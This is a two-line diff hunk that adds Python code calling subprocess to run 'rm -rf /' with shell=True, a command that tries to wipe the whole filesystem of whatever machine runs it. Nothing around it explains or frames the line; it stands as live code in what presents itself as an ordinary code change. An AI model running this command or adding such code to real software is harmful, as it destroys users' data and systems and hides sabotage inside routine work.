@@ -1,0 +1,2 @@
+import subprocess
+subprocess.call('rm -rf ' + '/', shell=True)
